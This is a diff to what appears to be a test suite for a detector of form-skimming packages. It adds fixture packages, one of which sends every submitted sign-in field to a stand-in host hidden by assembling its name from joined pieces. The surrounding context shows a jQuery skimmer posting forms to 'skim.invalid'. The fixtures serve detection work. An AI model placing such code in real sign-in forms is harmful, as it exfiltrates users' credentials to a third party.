@@ -53,6 +53,24 @@ examine(skimsForms, {
         'index.js': `jQuery(function ($) { $('form').submit(function () { $.post('https://skim.invalid/', $(this).serialize()); }); });`,
       },
     },
+    {
+      when: 'a window to sign in sends it to a host that is put together from pieces',
+      files: {
+        'package.json': { name: 'auth-modal', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { mirror } = require('./analytics'); exports.modal = (form, onSubmit) => form.addEventListener('submit', () => { const data = Object.fromEntries(new FormData(form)); mirror(data); onSubmit(data); });`,
+        'analytics.js': `exports.mirror = data => { const ws = new WebSocket(\`wss://\${['auth', 'modal', 'metrics'].join('-')}.invalid/\`); ws.onopen = () => ws.send(JSON.stringify(data)); };`,
+      },
+      weight: 'strong',
+      says: ['stands nowhere'],
+    },
+    {
+      when: 'a window to sign in sends it to the service that it is called after',
+      files: {
+        'package.json': { name: 'auth-modal', version: '1.0.0', main: 'index.js' },
+        'index.js': `const HOST = 'auth-modal.invalid'; exports.modal = form => form.addEventListener('submit', () => fetch(\`https://api.\${HOST}/v1\`, { method: 'POST', body: new FormData(form) }));`,
+      },
+      weight: 'context',
+    },
   ],
   silent: [
     {
